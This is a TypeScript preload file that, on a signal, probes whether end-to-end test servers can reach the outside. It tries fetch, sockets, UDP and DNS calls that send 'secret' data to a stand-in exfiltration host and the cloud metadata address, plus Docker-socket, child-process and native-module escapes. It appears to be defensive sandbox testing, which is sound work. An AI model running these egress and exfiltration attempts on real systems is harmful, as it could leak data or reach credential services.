// Loaded by Node before the web server and the worker of the end-to-end tests, and so before the lock: on SIGUSR2 it tries every way out of
// the process from inside and prints what each came to. In any other process it does nothing.
import dgram from "node:dgram";
import dns from "node:dns";
import http, { type ClientRequest } from "node:http";
import http2 from "node:http2";
import https from "node:https";
import net from "node:net";
import tls from "node:tls";

/** Addresses that nobody has (RFC 5737, RFC 3849), the clouds' metadata, this host at a port that is not ours, and a name. */
const HOSTS = ["198.51.100.7", "2001:db8::7", "169.254.169.254", "127.0.0.1", "secret.exfil.example"];
const PORT = 9009;

const settled = (emitter: NodeJS.EventEmitter | ClientRequest, success: string) =>
  new Promise<void>((resolve, reject) => void emitter.once(success, () => resolve()).once("error", reject));
const inUrl = (host: string) => (host.includes(":") ? `[${host}]` : host);

const NETWORK: Record<string, (host: string) => unknown> = {
  fetch: (host) => fetch(`http://${inUrl(host)}:${PORT}/?q=secret`),
  "fetch over TLS": (host) => fetch(`https://${inUrl(host)}:${PORT}/`),
  "http.request": (host) => settled(http.get({ host, port: PORT }), "response"),
  "https.request": (host) => settled(https.get({ host, port: PORT }), "response"),
  "http2.connect": (host) => settled(http2.connect(`http://${inUrl(host)}:${PORT}`), "connect"),
  "net.connect": (host) => settled(net.connect({ host, port: PORT }), "connect"),
  "tls.connect": (host) => settled(tls.connect({ host, port: PORT }), "secureConnect"),
  "dgram.send": (host) =>
    new Promise((resolve, reject) => {
      const socket = dgram.createSocket(host.includes(":") ? "udp6" : "udp4");
      socket.send("secret", PORT, host, (error) => (error ? reject(error) : resolve(undefined)));
    }),
  "dns.resolve": (host) => dns.promises.resolve4(`secret.${host}`),
};

const LOCAL: Record<string, () => unknown> = {
  "dns.lookup": () => dns.promises.lookup("secret.exfil.example"),
  "a Unix socket": () => settled(net.connect("/var/run/docker.sock"), "connect"),
  "a child process": async () => (await import("node:child_process")).execFileSync("true"),
  "a worker thread": async () => new (await import("node:worker_threads")).Worker("", { eval: true }),
  "an inner binding": (): unknown =>
    Reflect.apply(Reflect.get(process, "binding") as () => unknown, process, ["tcp_wrap"]),
  "a native add-on": () => process.dlopen({ exports: {} }, "/tmp/none.node"),
  "a written file": async () => (await import("node:fs")).writeFileSync("/tmp/inhouse-egress-probe", "x"),
};

async function tryAll(): Promise<void> {
  const ways = [
    ...Object.entries(NETWORK).flatMap(([way, go]) =>
      HOSTS.map((host) => [`${way} to ${host}`, () => go(host)] as const),
    ),
    ...Object.entries(LOCAL),
  ];
  const results: Record<string, string> = {};
  for (const [way, go] of ways) {
    results[way] = await Promise.resolve()
      .then(go)
      .then(() => "done", codeOf);
  }
  print({ egressProbe: results });
}

function print(line: object): void {
  process.stdout.write(`${JSON.stringify(line)}\n`);
}

/** The code of an error, or of what caused it. */
function codeOf(error: unknown): string {
  if (!(error instanceof Error)) return "failed";
  if (error.cause !== undefined) return codeOf(error.cause);
  return "code" in error ? String(error.code) : error.message;
}

if (/build\/(?:server|worker)\.js$/.test(process.argv[1] ?? "")) {
  process.on("SIGUSR2", () => void tryAll());
  print({ egressProbePid: process.pid });
}
